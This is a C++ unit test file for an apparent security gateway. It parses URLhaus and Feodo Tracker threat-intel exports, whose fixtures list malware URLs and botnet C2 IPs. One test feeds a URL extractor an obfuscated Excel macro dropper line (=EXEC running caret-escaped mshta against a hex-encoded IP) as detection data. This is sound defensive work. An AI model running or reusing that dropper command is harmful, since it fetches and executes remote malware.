// URLhaus and Feodo Tracker list parsing in the lists' real export formats.
#include <gtest/gtest.h>

#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "formats/url/extract.h"
#include "services/url_intel.h"
#include "unit/test_files.h"

using namespace emogate;

namespace {

// The layout of URLhaus's csv export: a commented banner, a commented
// header, then fully quoted rows.
const char* kUrlhausCsv =
    "################################################################\r\n"
    "# abuse.ch URLhaus Database Dump (CSV)                         #\r\n"
    "# Last updated: 2022-03-15 10:00:01 (UTC)                      #\r\n"
    "################################################################\r\n"
    "# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter\r\n"
    "\"2100001\",\"2022-03-15 09:58:02\",\"http://shop.example.com/wp-admin/Zx1/\",\"online\",\"2022-03-15 09:58:02\","
    "\"malware_download\",\"emotet,epoch4,xls\",\"https://urlhaus.abuse.ch/url/2100001/\",\"Cryptolaemus1\"\r\n"
    "\"2100002\",\"2022-03-15 09:50:11\",\"http://185.7.214.7/fer/fer.html\",\"offline\",\"\","
    "\"malware_download\",\"emotet,\"\"quoted\"\"\",\"https://urlhaus.abuse.ch/url/2100002/\",\"reporter\"\r\n"
    "\"broken\"\r\n";

const char* kFeodoCsv =
    "################################################################\n"
    "# abuse.ch Feodo Tracker Botnet C2 IP Blocklist (CSV)          #\n"
    "################################################################\n"
    "# \"first_seen_utc\",\"dst_ip\",\"dst_port\",\"c2_status\",\"last_online\",\"malware\"\n"
    "\"2021-11-16 07:37:10\",\"51.75.33.127\",\"443\",\"online\",\"2022-03-15\",\"Emotet\"\n"
    "\"2021-11-20 10:00:00\",\"not-an-ip\",\"8080\",\"offline\",\"\",\"QakBot\"\n";

const char* kFeodoTxt =
    "# abuse.ch Feodo Tracker Botnet C2 IP Blocklist\n"
    "#\n"
    "103.75.201.2\n"
    "  131.153.22.2  \n";

TEST(UrlIntel, ParsesUrlhausCsv) {
  UrlIntel i;
  EXPECT_EQ(i.add_urlhaus(kUrlhausCsv), 1u);  // the "broken" row
  EXPECT_EQ(i.url_count(), 2u);
  const auto* e = i.find_url("http://shop.example.com/wp-admin/Zx1/");
  ASSERT_NE(e, nullptr);
  EXPECT_EQ(e->list, "URLhaus");
  EXPECT_EQ(e->tag, "malware_download emotet,epoch4,xls");
  EXPECT_EQ(e->date, "2022-03-15 09:58:02");
  EXPECT_EQ(i.find_url("http://185.7.214.7/fer/fer.html")->tag, "malware_download emotet,\"quoted\"");
  ASSERT_NE(i.find_host("shop.example.com"), nullptr);
  EXPECT_EQ(i.find_host("shop.example.com")->key, "http://shop.example.com/wp-admin/Zx1/");
  EXPECT_EQ(i.find_url("http://shop.example.com/other"), nullptr);
  EXPECT_EQ(i.find_host("example.com"), nullptr);
}

TEST(UrlIntel, HexHostDropperUrlMatchesListedDottedUrl) {
  UrlIntel i;
  i.add_urlhaus(kUrlhausCsv);
  auto found = extract_urls("=EXEC(\"cmd /c m^sh^t^a h^tt^p^:/^/0xb907d607/fer/fer.html\")");
  ASSERT_EQ(found.urls.size(), 1u);
  EXPECT_NE(i.find_url(found.urls[0]), nullptr);
}

TEST(UrlIntel, ParsesUrlhausPlainText) {
  UrlIntel i;
  EXPECT_EQ(i.add_urlhaus("# URLhaus text export\nhttp://a.example/x\nnot a url\n"), 1u);
  EXPECT_NE(i.find_url("http://a.example/x"), nullptr);
}

TEST(UrlIntel, ParsesFeodoCsvAndText) {
  UrlIntel i;
  EXPECT_EQ(i.add_feodo(kFeodoCsv), 1u);
  EXPECT_EQ(i.add_feodo(kFeodoTxt), 0u);
  EXPECT_EQ(i.ip_count(), 3u);
  const auto* e = i.find_ip("51.75.33.127");
  ASSERT_NE(e, nullptr);
  EXPECT_EQ(e->tag, "Emotet");
  EXPECT_EQ(e->date, "2021-11-16 07:37:10");
  EXPECT_NE(i.find_ip("131.153.22.2"), nullptr);
  EXPECT_EQ(i.find_ip("10.0.0.1"), nullptr);
}

TEST(UrlIntel, SplitCsvLine) {
  EXPECT_EQ(split_csv_line("\"a\",\"b,c\",d,\"e\"\"f\",\"\""),
            (std::vector<std::string>{"a", "b,c", "d", "e\"f", ""}));
}

TEST(UrlIntel, LoadFromConfiguredFiles) {
  emogate::test::TempDir dir;
  IntelSettings s;
  s.urlhaus_path = dir.write("urlhaus.csv", kUrlhausCsv);
  s.feodo_path = dir.write("feodo.txt", kFeodoTxt);
  std::vector<std::string> w;
  auto intel = UrlIntel::load(s, w);
  EXPECT_EQ(intel->url_count(), 2u);
  EXPECT_EQ(intel->ip_count(), 2u);
  ASSERT_EQ(w.size(), 1u);  // the broken URLhaus row
  EXPECT_NE(w[0].find("urlhaus.csv"), std::string::npos);
  s.feodo_path = (dir.path / "missing.txt").string();
  EXPECT_THROW(UrlIntel::load(s, w), std::runtime_error);
  IntelSettings off;
  EXPECT_TRUE(UrlIntel::load(off, w)->empty());
}

}  // namespace
